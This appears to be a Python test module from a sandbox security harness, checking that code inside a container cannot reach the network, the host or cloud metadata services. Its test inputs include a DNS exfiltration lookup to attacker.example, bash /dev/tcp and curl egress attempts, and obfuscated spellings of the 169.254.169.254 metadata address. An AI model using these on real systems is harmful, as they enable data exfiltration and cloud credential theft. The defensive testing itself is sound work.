"""
Group G: talking to anybody. First without a network, then with the open one, of which less is promised: it is not
filtered. There is no proxy tier, so most of what the list has against one cannot be tried (`NOT_TRIED` in `table.py`).
"""

from __future__ import annotations

from attacks.case import Attack, Judge, Seen, all_fail, answers, never_says, python, refuses, says, tries

DIAL = r"""
import select, socket

def dial(name, family, address, port, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as caller:
            caller.settimeout(2)
            if kind == socket.SOCK_DGRAM:
                caller.sendto(b"stolen", (address, port))
                print(name, "sent", sep="\t", flush=True)
                return
            caller.connect((address, port))
            print(name, "ok", caller.recv(100), sep="\t", flush=True)
    except OSError as error:
        print(name, errno.errorcode.get(error.errno, type(error).__name__), sep="\t", flush=True)

def look_up(name, text):
    try:
        socket.getaddrinfo(text, 80)
        print(name, "ok", sep="\t", flush=True)
    except OSError as error:
        print(name, "no name", sep="\t", flush=True)
"""

METADATA = {
    "the address": "169.254.169.254",
    "one number": "2852039166",
    "hexadecimal": "0xA9FEA9FE",
    "octal": "0251.0376.0251.0376",
    "two parts": "169.254.43518",
    "Alibaba": "100.100.100.200",
    "Oracle": "192.0.0.192",
    "Azure": "168.63.129.16",
    "link-local": "169.254.170.2",
}
METADATA_6 = {
    "mapped": "::ffff:a9fe:a9fe",
    "NAT64": "64:ff9b::a9fe:a9fe",
    "6to4": "2002:a9fe:a9fe::",
    "Teredo": "2001:0:a9fe:a9fe::1",
    "AWS, IPv6": "fd00:ec2::254",
}
NAMES = ("metadata.google.internal", "METADATA.GOOGLE.INTERNAL.", "169-254-169-254.nip.io", "instance-data")

TO_THE_HOST = python(
    DIAL
    + """
host, port = "@LOOPBACK@".split()
gateway, other = "@GATEWAY@".split()
for name, address, number in (
    ("loopback", host, port), ("gateway", gateway, other), ("gateway, as loopback", gateway, port),
    ("any", "0.0.0.0", port), ("loopback 2", "127.0.0.2", port),
):
    dial(name, socket.AF_INET, address, int(number))
    dial(name + " by UDP", socket.AF_INET, address, int(number), socket.SOCK_DGRAM)
dial("mapped", socket.AF_INET6, "::ffff:" + host, int(port))
dial("IPv6", socket.AF_INET6, "::1", int(port))
print("tried")
"""
)
HOSTS = ("loopback", "gateway", "gateway, as loopback", "any", "loopback 2", "mapped", "IPv6")


def nowhere(*names: str) -> Judge:
    """Each was dialled, and nobody answered; what was sent without a connection, no canary heard."""

    def judge(seen: Seen) -> None:
        found = seen.answers
        assert set(names) <= found.keys(), seen.said
        assert {name: found[name] for name in names if found[name].startswith("ok")} == {}

    return judge


def unreachable(*names: str) -> Judge:
    """Each was dialled and there was no way there."""

    def judge(seen: Seen) -> None:
        ways = {"ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EPERM", "EACCES", "EINVAL"}
        assert {name: seen.answers.get(name) for name in names if seen.answers.get(name) not in ways} == {}, seen.said

    return judge


ABSTRACT = python(r"""
import socket
with open("/proc/net/unix") as file:
    print("visible", len(file.read().splitlines()) - 1, sep="\t")
def connect(name, address):
    caller = socket.socket(socket.AF_UNIX)
    attempt(name, caller.connect, address)
attempt("make one", socket.socket, socket.AF_UNIX)
agents = {"X11": "\0/tmp/.X11-unix/X0", "D-Bus": "\0/tmp/dbus-x", "containerd": "\0/containerd-shim/x"}
for name, address in agents.items():
    attempt(name, connect, name + ", connected", address)
""")

ATTACKS = (
    Attack(
        id="G1",
        title="Without a network no address is reachable by TCP, UDP or ping.",
        input=python(
            DIAL
            + """
dial("tcp", socket.AF_INET, "1.1.1.1", 443)
dial("udp", socket.AF_INET, "1.1.1.1", 53, socket.SOCK_DGRAM)
dial("tcp6", socket.AF_INET6, "2606:4700:4700::1111", 443)
def ping():
    caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    caller.sendto(b"\\x08\\x00\\x00\\x00\\x00\\x00\\x00\\x00", ("1.1.1.1", 0))
attempt("ping", ping)
"""
        ),
        judge=(unreachable("tcp", "udp", "tcp6", "ping"),),
    ),
    Attack(
        id="G2",
        title="No name is resolved, so none can carry data out.",
        input=python(
            DIAL
            + """
look_up("data", "c2VjcmV0.attacker.example")
look_up("long", ".".join(["a" * 60] * 4) + ".attacker.example")
look_up("internal", "host.docker.internal")
look_up("gateway", "gateway.docker.internal")
dial("engine's resolver", socket.AF_INET, "127.0.0.11", 53)
print(open("/etc/resolv.conf").read())
"""
        ),
        judge=(
            answers(data="no name", long="no name", internal="no name", gateway="no name"),
            nowhere("engine's resolver"),
            never_says(r"nameserver (?!127\.0\.0\.1$)"),
        ),
    ),
    Attack(
        id="G3",
        title="There is no interface but loopback: no link-local address, no multicast, no broadcast.",
        input=python(
            DIAL
            + """
print("interfaces", *(name for _, name in socket.if_nameindex()), sep="\\t")
dial("link-local", socket.AF_INET6, "fe80::1", 80)
dial("multicast", socket.AF_INET, "224.0.0.251", 5353, socket.SOCK_DGRAM)
dial("multicast 6", socket.AF_INET6, "ff02::1", 5353, socket.SOCK_DGRAM)
dial("broadcast", socket.AF_INET, "255.255.255.255", 67, socket.SOCK_DGRAM)
"""
        ),
        judge=(answers(interfaces="lo"), unreachable("link-local", "multicast", "multicast 6", "broadcast")),
    ),
    Attack(
        id="G4",
        title="Bash's own network files and the usual programs reach nobody.",
        input=tries(
            "bash -c 'exec 3<>/dev/tcp/1.1.1.1/80'",
            "bash -c 'exec 3<>/dev/udp/1.1.1.1/53; echo x >&3'",
            "curl -sS -m 3 http://1.1.1.1/",
            "curl -sS -m 3 telnet://1.1.1.1:25",
            "git ls-remote https://1.1.1.1/x",
            "pip download --no-input --retries 0 --timeout 2 x",
            'node -e \'require("net").connect(80, "1.1.1.1").on("error", () => process.exit(1))\'',
            image="default",
        ),
        judge=(all_fail,),
    ),
    Attack(
        id="G5",
        title="Vsock, by which a virtual machine's guest talks to its host, cannot be opened.",
        input=python("""
for cid in (0, 1, 2, 3):
    attempt(f"vsock {cid}", __import__("socket").socket, 40, 1)
"""),
        judge=(refuses("vsock 0", "vsock 1", "vsock 2", "vsock 3"),),
    ),
    Attack(
        id="G5a",
        title="With the open network neither.",
        input=python("""
for cid in (0, 1, 2, 3):
    attempt(f"vsock {cid}", __import__("socket").socket, 40, 1)
"""),
        network="open",
        judge=(refuses("vsock 0", "vsock 1", "vsock 2", "vsock 3"),),
    ),
    Attack(
        id="G6",
        title="A unix socket of the host in the workspace is no way out, nor is one end of a pair turned to it.",
        input=python("""
import socket
def connect():
    caller = socket.socket(socket.AF_UNIX)
    caller.connect("host.sock")
attempt("connect", connect)
kinds = {"stream": socket.SOCK_STREAM, "packets": socket.SOCK_SEQPACKET, "datagrams": socket.SOCK_DGRAM}
for name, kind in kinds.items():
    def turn():
        one, _ = socket.socketpair(socket.AF_UNIX, kind)
        one.connect("host.sock")
    attempt(name, turn)
"""),
        canaries=("socket in the workspace",),
        judge=(refuses("connect", "stream", "packets", "datagrams"),),
    ),
    Attack(
        id="G6a",
        title="With the open network neither.",
        input=python("""
import socket
def connect():
    caller = socket.socket(socket.AF_UNIX)
    caller.connect("host.sock")
attempt("connect", connect)
"""),
        network="open",
        canaries=("socket in the workspace",),
        judge=(refuses("connect"),),
    ),
    Attack(
        id="G7",
        title="Abstract sockets of the host are not to be seen, in any tier.",
        input=ABSTRACT,
        tier="unix",
        canaries=("abstract",),
        judge=(
            answers(visible="0"),
            refuses("X11, connected", "D-Bus, connected", "containerd, connected"),
        ),
    ),
    Attack(
        id="G7a",
        title="With the open network neither: it has a network namespace of its own.",
        input=ABSTRACT,
        tier="unix",
        network="open",
        canaries=("abstract",),
        judge=(
            answers(visible="0"),
            refuses("X11, connected", "D-Bus, connected", "containerd, connected"),
        ),
    ),
    Attack(
        id="G8",
        title="It is not variables that keep a command off the network: without them there is no way either.",
        input=python(
            DIAL
            + """
for name in [name for name in os.environ if "proxy" in name.lower()]:
    print("BREACH", name)
    del os.environ[name]
dial("direct", socket.AF_INET, "1.1.1.1", 443)
with open("/proc/net/route") as file:
    print("routes", len(file.read().splitlines()) - 1, sep="\\t")
"""
        ),
        judge=(unreachable("direct"), answers(routes="0"), never_says("BREACH")),
    ),
    Attack(
        id="G8a",
        title="With the open network no address or route can be changed and no packet forged.",
        input=tries(
            "ip addr add 10.9.8.7/24 dev eth0",
            "ip link set eth0 down",
            "ip route add 10.0.0.0/8 via 172.17.0.1",
            "ip link add dummy0 type dummy",
            "arping -c 1 -w 1 172.17.0.1",
            "traceroute -I -m 1 -w 1 172.17.0.1",
            "ifconfig eth0 promisc",
            "echo 1 > /proc/sys/net/ipv4/ip_forward",
        ),
        network="open",
        judge=(all_fail,),
    ),
    Attack(
        id="G9",
        title="Without a network there is no way to any cloud's metadata service.",
        input=python(
            DIAL
            + f"""
for name, address in {METADATA!r}.items():
    dial(name, socket.AF_INET, address, 80)
"""
        ),
        judge=(unreachable(*METADATA),),
    ),
    Attack(
        id="G10",
        title="Nor by any other spelling of it.",
        input=python(
            DIAL
            + f"""
for name, address in {METADATA_6!r}.items():
    dial(name, socket.AF_INET6, address, 80)
for text in {NAMES!r}:
    look_up(text, text)
"""
        ),
        judge=(unreachable(*METADATA_6), says(*(rf"{name}\tno name" for name in NAMES))),
    ),
    Attack(
        id="G19",
        title="Nobody who listens on the host's loopback or on the bridge's gateway is reached without a network.",
        input=TO_THE_HOST,
        canaries=("loopback", "gateway"),
        judge=(says("^tried$"), nowhere(*HOSTS)),
    ),
    Attack(
        id="G19a",
        title="With the open network, nobody who listens on the host's loopback is.",
        input=python(
            DIAL
            + """
host, port = "@LOOPBACK@".split()
gateway = "@GATEWAY@".split()[0]
for name, address in {"loopback": host, "any": "0.0.0.0", "loopback 2": "127.0.0.2", "gateway": gateway}.items():
    dial(name, socket.AF_INET, address, int(port))
    dial(name + " by UDP", socket.AF_INET, address, int(port), socket.SOCK_DGRAM)
dial("mapped", socket.AF_INET6, "::ffff:" + host, int(port))
print("tried")
"""
        ),
        network="open",
        canaries=("loopback",),
        judge=(says("^tried$"), nowhere("loopback", "any", "loopback 2", "gateway", "mapped")),
    ),
)
